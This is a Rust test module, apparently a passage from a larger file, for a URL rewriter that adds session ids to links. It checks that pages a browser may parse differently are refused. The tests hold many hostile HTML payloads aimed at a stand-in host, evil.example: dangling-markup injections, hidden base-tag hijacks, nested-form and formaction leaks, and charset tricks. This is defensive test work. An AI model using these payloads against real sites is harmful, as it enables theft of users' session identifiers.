        let html = r#"<p>see href="/app/x"</p><!-- <a href="/app/y"> --><script>var s = '<a href="/app/z">';</script><textarea>a &lt;a href="/app/t"></textarea><style>a > b { x: "<" }</style>"#;
        assert_eq!(rewrite(&path_rw(), html), html);
        // Markup in a <textarea> is text to this parser, and may be tags to a browser: the
        // page is served as it was.
        let html = r#"<a href="/app/x">x</a><textarea><a href="/app/t"></textarea>"#;
        assert!(refused(&path_rw(), html), "{html}");
    }

    /// Whether the page is refused (served as it was, without ids).
    fn refused(rw: &UrlRewriter, html: &str) -> bool {
        let doc = rw.document_url("/app/page", None);
        match rw.rewrite_html(html.as_bytes(), &doc, &id()) {
            Err(Error::Html { reason }) => reason.contains("served without session ids"),
            Err(e) => panic!("{html}: {e}"),
            Ok(_) => false,
        }
    }

    #[test]
    fn pages_a_browser_may_read_otherwise_are_not_rewritten() {
        let links = r#"<img src="/app/pixel"><a href="/app/x">x</a><p title='end'>"#;
        for attack in [
            // A <base> this parser reads as text, a comment, a script or an attribute.
            r#"<svg><![CDATA[<base href="//evil.example/app/">]]></svg>"#,
            r#"<svg><![CDATA[><base href="//evil.example/app/">]]></svg>"#,
            r#"<math><![CDATA[><base href="//evil.example/app/">]]></math>"#,
            r#"<noscript><base href="//evil.example/app/"></noscript>"#,
            r#"<!-- <BASE/href=//evil.example/app/> -->"#,
            r#"<script>document.write('<base	href=//evil.example/app/>')</script>"#,
            r#"<p title="<base href=//evil.example/app/>">"#,
            r#"<style><base href="//evil.example/app/"></style>"#,
            // An attribute opened where this parser sees text, closed after the links.
            r#"<svg><![CDATA[><img src='//evil.example/x?]]></svg>"#,
            r#"<noscript><img src='//evil.example/x?</noscript>"#,
            r#"<title></title><textarea></textarea><xmp><img src='//evil.example/x?</xmp>"#,
            r#"<iframe><img src='//evil.example/x?</iframe>"#,
            r#"<style>x{}</style><style></style ><style>a{}</x><img src='//evil.example/x?</style>"#,
            r#"<plaintext><img src='//evil.example/x?"#,
            // A script in a page with SVG or MathML may be an SVG element, its text markup.
            r#"<math></math><script>var s = '<b>';</script>"#,
            // ... and a comment there may be text to a browser (a foreign <style> to one, an
            // HTML one to the other).
            r#"<svg><font color=x><style><!--</style><img src='//evil.example/x?-->"#,
            r#"<svg></svg><!-- <img src='//evil.example/x? -->"#,
            r#"<script>var s = '<b>';</script><SVG></SVG>"#,
        ] {
            for html in [format!("{attack}{links}"), format!("{links}{attack}")] {
                assert!(refused(&path_rw(), &html), "{html}");
                assert!(refused(&path_rw().style(UrlStyle::Query), &html), "{html}");
            }
        }
        // Bytes a browser may decode otherwise: a UTF-16 byte order mark, NUL (UTF-16
        // without one), ESC (ISO-2022-JP's mode switches, which swallow quotes).
        for prefix in [
            &b"\xff\xfe"[..],
            b"\xfe\xff",
            b"<p>\0</p>",
            b"<p>\x1b$B</p>",
        ] {
            let body = [prefix, links.as_bytes()].concat();
            let doc = path_rw().document_url("/app/page", None);
            assert!(
                path_rw().rewrite_html(&body, &doc, &id()).is_err(),
                "{prefix:?}"
            );
        }
        // Text that merely compares or quotes stays rewritable.
        let fine = format!(
            "<style>a>b{{}} a:after{{content:'<'}}</style><title>1 < 2</title>\
             <textarea>a < b; a &lt;b></textarea><script>if (a<b) x = '<b>';</script>{links}"
        );
        assert!(!refused(&path_rw(), &fine), "{fine}");
        assert!(rewrite(&path_rw(), &fine).contains(&format!("/app/x/-/{ID}")));
    }

    #[test]
    fn no_hidden_id_field_where_forms_may_nest() {
        let rw = path_rw().style(UrlStyle::Query);
        let hidden = format!(r#"<input type="hidden" name="sid" value="{ID}">"#);
        for html in [
            // Browsers drop the inner <form> tag: its fields go to the outer form.
            r#"<form action="//evil.example/"><form action="/app/search"><input name="q"></form></form>"#,
            // ... also when the outer one was closed only implicitly.
            r#"<div><form action="//evil.example/"></div><form action="/app/search"><input name="q"></form>"#,
            // A <form> or formaction this parser did not see as one.
            r#"<!-- <form action="//evil.example/"> --><form action="/app/search"></form>"#,
            r#"<form action="/app/search"></form><!-- <button formaction="//evil.example/"> -->"#,
        ] {
            let out = rewrite(&rw, html);
            assert!(!out.contains(&hidden), "{out}");
        }
        // Forms side by side keep their fields to themselves.
        let out = rewrite(
            &rw,
            r#"<form action="//evil.example/"></form><form action="/app/search"><input name="q"></form>"#,
        );
        assert!(out.contains(&hidden), "{out}");
        // Nested forms that all go to the application may carry it.
        let out = rewrite(
            &rw,
            r#"<form action="/app/a"><form action="/app/search"><input name="q"></form></form>"#,
        );
        assert!(out.contains(&hidden), "{out}");
    }

    #[test]
    fn base_href_changes_resolution() {
        let html =
            r#"<base href="/app/sub/"><a href="x">x</a><base href="/other/"><a href="y">y</a>"#;
        let out = rewrite(&path_rw(), html);
        assert!(
            out.contains(&format!(r#"href="/app/sub/x/-/{ID}""#)),
            "{out}"
        );
        assert!(
            out.contains(&format!(r#"href="/app/sub/y/-/{ID}""#)),
            "{out}"
        );
        let external = r#"<base href="https://cdn.example/"><a href="x">x</a><img src="y.png">"#;
        assert_eq!(rewrite(&path_rw(), external), external);
        // Under a <base href>, relative links resolve against it, not against the address:
        // they need no rewriting to an absolute path.
        let same_site = r#"<base href="/app/"><img src="logo.png">"#;
        assert_eq!(rewrite(&path_rw(), same_site), same_site);
        // A <base href> that does not parse is ignored, as browsers do.
        let broken = r#"<base href="http://[::1"><img src="logo.png">"#;
        assert_eq!(
            rewrite(&path_rw(), broken),
            r#"<base href="http://[::1"><img src="/app/logo.png">"#
        );
    }

    /// The attribute values of `out` that carry the id.
    fn with_id(out: &str) -> Vec<&str> {
        out.split('"').filter(|v| v.contains(ID)).collect()
    }

    #[test]
    fn a_base_after_the_links_still_applies_to_them() {
        // Browsers resolve every link against the first <base href>, wherever it is.
        for html in [
            r#"<a href="/app/x">x</a><form action="/app/f"></form><base href="http://evil.example/">"#,
            r#"<p><a href="x">x</a><img src="/app/captcha"></p><base href="//evil.example/app/">"#,
            r#"<a href="/app/x">x</a><base href="http://evil.example/"><base href="/app/">"#,
        ] {
            assert_eq!(rewrite(&path_rw(), html), html);
            assert_eq!(rewrite(&path_rw().style(UrlStyle::Query), html), html);
        }
        // A base after the links that keeps them in the application: rewritten against it.
        let out = rewrite(&path_rw(), r#"<a href="x">x</a><base href="/app/sub/">"#);
        assert_eq!(
            out,
            format!(r#"<a href="/app/sub/x/-/{ID}">x</a><base href="/app/sub/">"#)
        );
    }

    #[test]
    fn forms_submit_where_browsers_send_them() {
        let evil = r#"<base href="http://evil.example/">"#;
        // An action resolves against the base...
        for form in [
            r#"<form action="/app/f"></form>"#,
            r#"<form action="f"></form>"#,
            r#"<form action=" "></form>"#,
            r#"<form action="?q=1"></form>"#,
        ] {
            let html = format!("{evil}{form}");
            assert_eq!(rewrite(&path_rw(), &html), html);
        }
        // ... but an empty or missing one submits to the page's own address, whatever the
        // base: written absolute, so that the base cannot send it elsewhere.
        let doc = format!("http://localhost:3000/app/page/-/{ID}");
        for form in [
            r#"<form action=""></form>"#,
            "<form></form>",
            "<form action></form>",
        ] {
            let out = rewrite(&path_rw(), &format!("{evil}{form}"));
            assert!(out.contains(&format!(r#"action="{doc}""#)), "{out}");
            assert_eq!(with_id(&out), [doc.as_str()], "{out}");
        }
        // Without a base, the same forms stay relative to the site.
        let out = rewrite(&path_rw(), "<form></form>");
        assert_eq!(out, format!(r#"<form action="/app/page/-/{ID}"></form>"#));
    }

    #[test]
    fn submit_buttons_with_formaction() {
        let out = rewrite(
            &path_rw(),
            r#"<form action="/app/f"><button formaction="/app/b">b</button><input type=image formaction="/app/i"><input type="submit" formaction=""><button formaction="https://elsewhere.example/">x</button></form>"#,
        );
        for want in [
            format!(r#"formaction="/app/b/-/{ID}""#),
            format!(r#"formaction="/app/i/-/{ID}""#),
            format!(r#"formaction="/app/page/-/{ID}""#),
            r#"formaction="https://elsewhere.example/""#.to_owned(),
        ] {
            assert!(out.contains(&want), "missing {want} in {out}");
        }
        let evil = rewrite(
            &path_rw(),
            r#"<base href="http://evil.example/"><button formaction="/app/b">b</button><button formaction="">e</button>"#,
        );
        assert_eq!(
            with_id(&evil),
            [format!("http://localhost:3000/app/page/-/{ID}")],
            "{evil}"
        );
    }

    #[test]
    fn no_hidden_id_field_in_a_form_that_may_submit_elsewhere() {
        let rw = path_rw().style(UrlStyle::Query);
        let hidden = format!(r#"<input type="hidden" name="sid" value="{ID}">"#);
        // A submit button anywhere in the page (`form=` reaches across it) whose formaction
        // leaves the application would carry the field there.
        for elsewhere in [
            r#"<button formaction="https://evil.example/">go</button>"#,
            r#"<input type="submit" form="f" formaction="//evil.example/x">"#,
            r#"<button formaction="/other/">go</button>"#,
            r#"<button formaction="&eacute;">go</button>"#,
        ] {
            for html in [
                format!(r#"<form id="f" action="/app/search"><input name="q">{elsewhere}</form>"#),
                format!(r#"<form id="f" action="/app/search"></form>{elsewhere}"#),
                format!(r#"{elsewhere}<form id="f"></form>"#),
            ] {
                let out = rewrite(&rw, &html);
                assert!(!out.contains(&hidden), "{out}");
            }
        }
        let out = rewrite(
            &rw,
            r#"<form action="/app/search"><button formaction="/app/other">x</button></form>"#,
        );
        assert!(out.contains(&hidden), "{out}");
    }

    #[test]
    fn areas_and_pings() {
        let out = rewrite(
            &path_rw(),
            r#"<map><area href="/app/a"><area href="https://elsewhere.example/"></map><a href="/app/p" ping="/app/track">p</a><a href="/app/q" ping="/app/t https://evil.example/t">q</a><area href="/app/r" ping="//evil.example/t">"#,
        );
        assert!(
            out.contains(&format!(r#"<area href="/app/a/-/{ID}">"#)),
            "{out}"
        );
        assert!(
            out.contains(r#"<area href="https://elsewhere.example/">"#),
            "{out}"
        );
        assert!(out.contains(&format!(r#"href="/app/p/-/{ID}""#)), "{out}");
        // A ping elsewhere would be told the link's target (Ping-To), id and all.
        assert!(out.contains(r#"<a href="/app/q" ping"#), "{out}");
        assert!(out.contains(r#"<area href="/app/r" ping"#), "{out}");
    }

    #[test]
    fn bases_the_parser_may_read_otherwise_than_a_browser() {
        // A <base> in a <template> or in SVG is no base for browsers, but other tokenizers
        // (a preload scanner) may take it for one. Whatever base applies, a link carrying the
        // id goes to the application: written absolute when the bases disagree on where a
        // site-relative link goes.
        let abs = format!("http://localhost:3000/app/x/-/{ID}");
        for html in [
            r#"<template><base href="/app/"></template><base href="//evil.example/"><a href="/app/x">x</a>"#,
            r#"<svg><base href="/app/"></svg><base href="//evil.example/"><a href="/app/x">x</a>"#,
            r#"<select><base href="/app/"></select><base href="//evil.example/"><a href="/app/x">x</a>"#,
            r#"<svg><base href="//evil.example/"></svg><a href="/app/x">x</a>"#,
        ] {
            let out = rewrite(&path_rw(), html);
            for link in with_id(&out) {
                assert_eq!(link, abs, "{out}");
            }
        }
        // A <base> in <noscript> is one for browsers without scripts, and text to this
        // parser: the page is not rewritten at all.
        for html in [
            r#"<noscript><base href="//evil.example/"></noscript><a href="/app/x">x</a>"#,
            r#"<noscript><p><BASE HREF=//evil.example/></p></noscript><a href="/app/x">x</a>"#,
        ] {
            assert!(refused(&path_rw(), html), "{html}");
        }
        // Where the base is certain, the first real one decides.
        let out = rewrite(
            &path_rw(),
            r#"<template><base href="/app/"></template><base href="//evil.example/"><a href="/app/x">x</a>"#,
        );
        assert!(with_id(&out).is_empty(), "{out}");
        // A base href with anything but ASCII is read otherwise by a browser that decodes the
        // page in another charset: treated as unknown, so links with the id are absolute.
        let out = rewrite(
            &path_rw(),
            r#"<base href="/app/sub/&#xe9;/"><a href="/app/x">x</a>"#,
        );
        assert_eq!(with_id(&out), [abs.as_str()], "{out}");
    }

    #[test]
    fn awkward_references() {
        let rw = path_rw();
        let cases = [
            // Whitespace and control characters around a URL are stripped, tabs and
            // newlines inside it removed, as browsers do.
            (" \t/app/x\n", Some(format!("/app/x/-/{ID}"))),
            ("&#1;/app/x&#31;", Some(format!("/app/x/-/{ID}"))),
            ("/app/&#10;x", Some(format!("/app/x/-/{ID}"))),
            ("java&#10;script:alert(1)", None),
            ("&#9;javascript:alert(1)", None),
            ("data:text/html,<a>", None),
            ("mailto:a@example.org", None),
            // Backslashes are slashes in http(s) URLs.
            ("\\\\evil.example\\app\\x", None),
            ("/\\evil.example/app/x", None),
            ("\\app\\x", Some(format!("/app/x/-/{ID}"))),
            // A scheme with the page's own, but no slashes: relative to the page.
            (
                "http:/app/x",
                Some(format!("http://localhost:3000/app/x/-/{ID}")),
            ),
            (
                "HTTP://LOCALHOST:3000/app/x",
                Some(format!("http://localhost:3000/app/x/-/{ID}")),
            ),
            ("HTTPS://localhost:3000/app/x", None),
            (
                "//localhost:3000/app/x",
                Some(format!("//localhost:3000/app/x/-/{ID}")),
            ),
            // Dot segments, plain and encoded, are resolved; encoded slashes are not left
            // to the server to interpret.
            ("/app/%2e%2e/x", None),
            ("/app/..%2fx", None),
            ("/app/..%5Cx", None),
        ];
        for (href, want) in cases {
            let html = format!(r#"<a href="{href}">x</a>"#);
            let out = rewrite(&rw, &html);
            match want {
                Some(want) => assert_eq!(out, format!(r#"<a href="{want}">x</a>"#), "{href:?}"),
                None => assert!(!out.contains(ID), "{href:?}: {out}"),
            }
        }
        // Nothing that is not an http(s) link is ever rewritten, even to an absolute path.
        for href in [
            "java&#10;script:alert(1)",
            "mailto:a@example.org",
            "data:,x",
        ] {
            let html = format!(r#"<a href="{href}">x</a>"#);
            assert_eq!(rewrite(&rw, &html), html);
        }
    }

    #[test]
    fn a_page_whose_path_looks_like_a_host() {
        // A request for `//evil.example/x` is a page of this site whose path starts with two
        // slashes; written as a path, a link under it would read as scheme-relative.
        let rw = UrlRewriter::new("http://localhost:3000/").unwrap();
        let doc = rw.document_url("//evil.example/x", None);
        let html = r#"<a href="y">y</a><form></form><a href="/z">z</a>"#;
        let out =
            String::from_utf8(rw.rewrite_html(html.as_bytes(), &doc, &id()).unwrap()).unwrap();
        assert_eq!(
            with_id(&out),
            [
                format!("http://localhost:3000//evil.example/y/-/{ID}"),
                format!("http://localhost:3000//evil.example/x/-/{ID}"),
                format!("/z/-/{ID}"),
            ],
            "{out}"
        );
        assert_eq!(
            rw.rewrite_location(302, "y", &doc, &id()),
            Some(format!("http://localhost:3000//evil.example/y/-/{ID}"))
        );
    }

    #[test]
    fn references_browsers_decode_otherwise_are_left_alone() {
        // C1 controls in numeric references are remapped by browsers (&#x80; is the euro
        // sign): not decoded here.
        assert_eq!(decode_attribute("/a?x=&#x80;"), None);
        assert_eq!(decode_attribute("//evil&#159;.example/"), None);
        assert_eq!(
            decode_attribute("/a?x=&#xA0;").as_deref(),
            Some("/a?x=\u{a0}")
        );
    }

    #[test]
    fn query_strings_are_entity_encoded() {
        let rw = path_rw().style(UrlStyle::Query);
        let out = rewrite(
            &rw,
            r#"<a href="/app/a?x=1&amp;y=2">a</a><a href="/app/b?&eacute;=1">b</a>"#,
        );
        assert!(
            out.contains(&format!(r#"href="/app/a?x=1&amp;y=2&amp;sid={ID}""#)),
            "{out}"
        );
        assert!(out.contains(r#"href="/app/b?&eacute;=1""#), "{out}");
    }

    #[test]
    fn get_forms_get_a_hidden_field_in_query_style() {
        let rw = path_rw().style(UrlStyle::Query);
        let out = rewrite(
            &rw,
            r#"<form action="/app/search"><input name="q"></form><form method="POST" action="/app/p"></form><form action="https://elsewhere.example/"></form><form></form>"#,
        );
        let hidden = format!(r#"<input type="hidden" name="sid" value="{ID}">"#);
        assert!(
            out.contains(&format!(
                r#"<form action="/app/search?sid={ID}">{hidden}<input name="q">"#
            )),
            "{out}"
        );
        assert!(
            out.contains(&format!(
                r#"<form method="POST" action="/app/p?sid={ID}"></form>"#
            )),
            "{out}"
        );
        assert!(
            out.contains(r#"<form action="https://elsewhere.example/"></form>"#),
            "{out}"
        );
        assert!(
            out.contains(&format!(
                r#"<form action="/app/page?sid={ID}">{hidden}</form>"#
            )),
            "{out}"
        );
    }

    fn stream(rw: &UrlRewriter, html: &str, chunk: usize) -> String {
        let doc = rw.document_url("/app/page", None);
        let page = crate::session::PageRewrite::new(rw.clone(), doc, id());
        let mut stream = page.stream();
        let mut out = Vec::new();
        for piece in html.as_bytes().chunks(chunk) {
            out.extend(stream.write(piece).unwrap());
        }
        out.extend(stream.end().unwrap());
        String::from_utf8(out).unwrap()
    }

    #[test]
    fn a_stream_stops_adding_ids_where_a_browser_may_read_otherwise() {
        let before = r#"<a href="/app/a">a</a>"#;
        let after = r#"<a href="/app/b">b</a><p title='end'>"#;
        for attack in [
            r#"<svg><![CDATA[><img src='//evil.example/x?]]></svg>"#,
            r#"<noscript><img src='//evil.example/x?</noscript>"#,
            "<p>\x1b$B</p>",
            "<p>\0</p>",
            "<svg></svg><script>'<b>'</script>",
        ] {
            let html = format!("{before}{attack}{after}");
            let first = format!("http://localhost:3000/app/a/-/{ID}");
            for chunk in [1, 5, html.len()] {
                let out = stream(&path_rw(), &html, chunk);
                let ids = with_id(&out);
                // Bytes that may be decoded otherwise stop ids from their whole chunk on.
                assert!(
                    ids == [first.as_str()] || ids.is_empty(),
                    "chunk {chunk}: {out}"
                );
                if chunk == 1 {
                    assert_eq!(ids, [first.as_str()], "{out}");
                }
            }
        }
        // A UTF-16 byte order mark: no ids at all.
        let html = format!("\u{feff}{before}");
        let utf16: Vec<u8> = [0xff, 0xfe]
            .into_iter()
            .chain(html.bytes().skip(3))
            .collect();
        let page = crate::session::PageRewrite::new(
            path_rw(),
            path_rw().document_url("/app/page", None),
            id(),
        );
        for chunk in [1, 2, utf16.len()] {
            let mut stream = page.stream();
            let mut out = Vec::new();
            for piece in utf16.chunks(chunk) {
                out.extend(stream.write(piece).unwrap());
            }
            out.extend(stream.end().unwrap());
            assert_eq!(out, utf16, "chunk {chunk}");
        }
    }

    /// A page of many `<base>` tags and links (a hostile one: pages have one base) costs
    /// work in proportion to its size, not to bases times links: past `MAX_BASES` its base
    /// counts as unreadable, and links get the id only as absolute URLs, which mean the same
    /// whichever base a browser takes; a stream adds no ids after the base past the cap.
    /// (This page took 6.6 s whole and 19.6 s streamed in a debug build before the cap.)
    #[test]
    fn many_bases_cost_no_more_than_the_page() {
        let n = 2_000;
        let mut html = String::new();
        for i in 0..n {
            html.push_str(&format!(r#"<base href="/app/b{i}/">"#));
        }
        for _ in 0..n {
            html.push_str(r#"<a href="http://localhost:3000/app/x">x</a><a href="/app/y">y</a>"#);
        }
        let with_id = |path: &str| format!(r#"href="http://localhost:3000/app/{path}/-/{ID}""#);
        let out = rewrite(&path_rw(), &html);
        assert_eq!(out.matches(&with_id("x")).count(), n);
        assert_eq!(out.matches(&with_id("y")).count(), n);
        assert!(
            !out.contains(r#"href="/app/y"#),
            "a relative link with the id"
        );
        let out = stream(&path_rw(), &html, 4096);
        assert_eq!(out, html, "a stream with too many bases adds no ids");
        // A few bases still count one by one: a path-absolute link under all of them keeps
        // its form; streamed, it gets the id as an absolute URL, as any link there does.
        let few = r#"<base href="/app/b1/"><base href="/app/b2/"><a href="/app/y">y</a>"#;
        let out = rewrite(&path_rw(), few);
        assert!(out.contains(&format!(r#"href="/app/y/-/{ID}""#)), "{out}");
        let out = stream(&path_rw(), few, 7);
        assert!(out.contains(&with_id("y")), "{out}");
    }

    #[test]
    fn streaming_writes_links_with_the_id_as_absolute_urls() {
        let html = r#"<html><head><link rel="stylesheet" href="/app/site.css"></head>
<body><a href="/app/a">a</a><a href="b?x=1&amp;y=2">b</a><img src="/app/logo.png">
<a href="https://elsewhere.example/">out</a><form method="get" action="/app/find"></form>
<base href="https://cdn.example/"><a href="c">c</a></body></html>"#;
        for chunk in [1, 7, 64, html.len()] {
            let out = stream(&path_rw(), html, chunk);
            for want in [
                format!(r#"href="http://localhost:3000/app/site.css/-/{ID}""#),
                format!(r#"href="http://localhost:3000/app/a/-/{ID}""#),
                format!(r#"href="http://localhost:3000/app/b/-/{ID}?x=1&amp;y=2""#),
                format!(r#"action="http://localhost:3000/app/find/-/{ID}""#),
                r#"<img src="/app/logo.png">"#.to_owned(),
                r#"href="https://elsewhere.example/""#.to_owned(),
                // After the <base>, relative links go where it sends them: no id.
                r#"<a href="c">c</a>"#.to_owned(),
            ] {
                assert!(
                    out.contains(&want),
                    "chunk {chunk}: missing {want} in {out}"
                );
            }
        }
        // No hidden field in query style: a later formaction might send it elsewhere.
        let q = UrlRewriter::new("http://localhost:3000/app/")
            .unwrap()
            .style(UrlStyle::Query);
        let out = stream(&q, r#"<form action="/app/find"></form>"#, 5);
        assert!(!out.contains("hidden"), "{out}");
        assert!(out.contains(&format!("find?sid={ID}")), "{out}");
    }
}
